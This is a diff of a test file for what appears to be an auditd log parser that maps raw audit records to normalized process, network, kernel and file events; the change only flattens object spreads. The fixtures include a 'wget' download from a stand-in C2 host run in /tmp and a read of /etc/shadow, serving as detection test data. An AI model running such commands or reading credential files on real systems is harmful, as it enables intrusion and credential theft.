@@ -24,10 +24,16 @@ test('a command is one event: who ran it, where, what, and every field for rules
   )
   expect(format).toBe('auditd')
   expect(draft).toMatchObject({
-    ...{ class: 'process_activity', activity: 1, event_code: 'EXECVE', status: 'success' },
+    class: 'process_activity',
+    activity: 1,
+    event_code: 'EXECVE',
+    status: 'success',
     user: { uid: '1000' },
     process: {
-      ...{ name: 'wget', pid: 3, cmd_line: 'wget http://c2.example/x', working_directory: '/tmp' },
+      name: 'wget',
+      pid: 3,
+      cmd_line: 'wget http://c2.example/x',
+      working_directory: '/tmp',
       file: { path: '/usr/bin/wget' },
     },
     file: { path: '/usr/bin/wget' },
@@ -36,7 +42,10 @@ test('a command is one event: who ran it, where, what, and every field for rules
   })
   expect(record).toMatchObject({
     type: ['SYSCALL', 'EXECVE', 'CWD', 'PATH', 'PROCTITLE'],
-    ...{ a0: ['55d1', 'wget'], a1: 'http://c2.example/x', audit_id: '7', key: 'run' },
+    a0: ['55d1', 'wget'],
+    a1: 'http://c2.example/x',
+    audit_id: '7',
+    key: 'run',
   })
 })
 
@@ -45,14 +54,20 @@ test('a connection, a refusal and a file touched are told by the record that say
   expect(
     read(call, line('SOCKADDR', 'saddr=0200115CC0000205000000000000000000')).draft,
   ).toMatchObject({
-    ...{ class: 'network_activity', status: 'failure', dst_endpoint: { ip: '192.0.2.5' } },
+    class: 'network_activity',
+    status: 'failure',
+    dst_endpoint: { ip: '192.0.2.5' },
     process: { pid: 9 },
   })
   expect(read(line('AVC', 'avc: denied { read } for pid=9'), call).draft).toMatchObject({
-    ...{ class: 'kernel_activity', severity: 2, event_code: 'AVC', process: { pid: 9 } },
+    class: 'kernel_activity',
+    severity: 2,
+    event_code: 'AVC',
+    process: { pid: 9 },
   })
   expect(read(call, line('PATH', 'name="/etc/shadow"')).draft).toMatchObject({
-    ...{ class: 'file_activity', file: { path: '/etc/shadow' } },
+    class: 'file_activity',
+    file: { path: '/etc/shadow' },
   })
 })
 
